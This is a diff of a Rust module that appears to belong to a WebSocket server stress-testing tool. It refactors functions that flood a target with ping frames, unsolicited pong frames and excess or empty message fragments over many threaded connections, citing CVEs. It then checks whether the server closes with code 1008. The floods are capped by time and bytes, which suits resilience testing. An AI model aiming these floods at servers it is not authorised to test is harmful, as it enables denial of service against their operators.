@@ -2,19 +2,15 @@
 
 use std::{
     io::{self, Write},
-    net::SocketAddr,
     thread,
-    time::{Duration, Instant},
+    time::Instant,
 };
 
 use crate::{
     Attack, Effect, MIB,
-    server::MESSAGE_LIMIT,
+    scene::{MESSAGE_LIMIT, Scene},
     wire::{PING, PONG, Peer, frame},
 };
-
-/// How long each flood lasts.
-const DURATION: Duration = Duration::from_secs(2);
 
 /// At most so many bytes by each connection.
 const MOST: usize = 512 << 20;
@@ -50,23 +46,23 @@ pub(crate) const ATTACKS: [Attack; 4] = [
 ];
 
 /// Each ping asks for a pong of 125 bytes, and nobody reads the pongs.
-fn ping(server: SocketAddr) -> io::Result<Effect> {
-    flood(server, &frame(PING, &[b'p'; 125]))
+fn ping(scene: &Scene) -> io::Result<Effect> {
+    flood(scene, &frame(PING, &[b'p'; 125]))
 }
 
 /// Nobody asked for these (CVE-2021-3690).
-fn pong(server: SocketAddr) -> io::Result<Effect> {
-    flood(server, &frame(PONG, &[b'p'; 125]))
+fn pong(scene: &Scene) -> io::Result<Effect> {
+    flood(scene, &frame(PONG, &[b'p'; 125]))
 }
 
 /// Sends one frame again and again from all connections.
-fn flood(server: SocketAddr, frame: &[u8]) -> io::Result<Effect> {
+pub(crate) fn flood(scene: &Scene, frame: &[u8]) -> io::Result<Effect> {
     let counts = from_each_connection(|| {
-        let mut peer = Peer::connect(server)?;
+        let mut peer = Peer::connect(&scene.target)?;
         let batch = frame.repeat(500);
         let begun = Instant::now();
         let mut count = 0;
-        while begun.elapsed() < DURATION && count * frame.len() < MOST {
+        while begun.elapsed() < scene.duration && count * frame.len() < MOST {
             peer.stream.write_all(&batch)?;
             count += 500;
         }
@@ -76,38 +72,41 @@ fn flood(server: SocketAddr, frame: &[u8]) -> io::Result<Effect> {
 }
 
 /// CVE-2026-12151 and CVE-2026-48779: an object for each.
-fn fragments(server: SocketAddr) -> io::Result<Effect> {
-    too_many(server, b"x")
+fn fragments(scene: &Scene) -> io::Result<Effect> {
+    too_many(scene, b"x", 1008)
 }
 
 /// A size limit alone never ends these.
-fn empty_fragments(server: SocketAddr) -> io::Result<Effect> {
-    too_many(server, b"")
+pub(crate) fn empty_fragments(scene: &Scene) -> io::Result<Effect> {
+    too_many(scene, b"", 1008)
 }
 
-/// Sends one fragment more than may be, again and again; each time the server has to end the connection with 1008.
-fn too_many(server: SocketAddr, payload: &[u8]) -> io::Result<Effect> {
+/// Sends one fragment more than may be, again and again; each time the server has to end the connection with this code.
+pub(crate) fn too_many(scene: &Scene, payload: &[u8], expected: u16) -> io::Result<Effect> {
     let message = [frame(0x02, payload), frame(0x00, payload).repeat(MOST_FRAGMENTS)].concat();
     let codes = from_each_connection(|| {
         let begun = Instant::now();
         let mut codes = Vec::new();
-        while begun.elapsed() < DURATION && codes.len() * message.len() < MOST {
-            let mut peer = Peer::connect(server)?;
-            peer.stream.write_all(&message)?;
+        while begun.elapsed() < scene.duration && codes.len() * message.len() < MOST {
+            let mut peer = Peer::connect(&scene.target)?;
+            // The server may have had enough before the end.
+            let _ = peer.stream.write_all(&message);
             codes.push(peer.close_code()?);
         }
         Ok(codes)
     })?
     .concat();
-    let wrong = codes.iter().find(|code| **code != Some(1008));
+    let wrong = codes.iter().find(|code| **code != Some(expected));
     Ok(Effect {
         sent: format!("{} messages", codes.len()),
-        broken: wrong.map(|code| format!("closed with {code:?} and not with 1008")),
+        broken: wrong.map(|code| format!("closed with {code:?} and not with {expected}")),
     })
 }
 
 /// Does the same in a thread for each connection.
-fn from_each_connection<T: Send>(work: impl Fn() -> io::Result<T> + Sync) -> io::Result<Vec<T>> {
+pub(crate) fn from_each_connection<T: Send>(
+    work: impl Fn() -> io::Result<T> + Sync,
+) -> io::Result<Vec<T>> {
     thread::scope(|scope| {
         let threads: Vec<_> = (0..CONNECTIONS).map(|_| scope.spawn(&work)).collect();
         let results = threads.into_iter().map(|thread| {
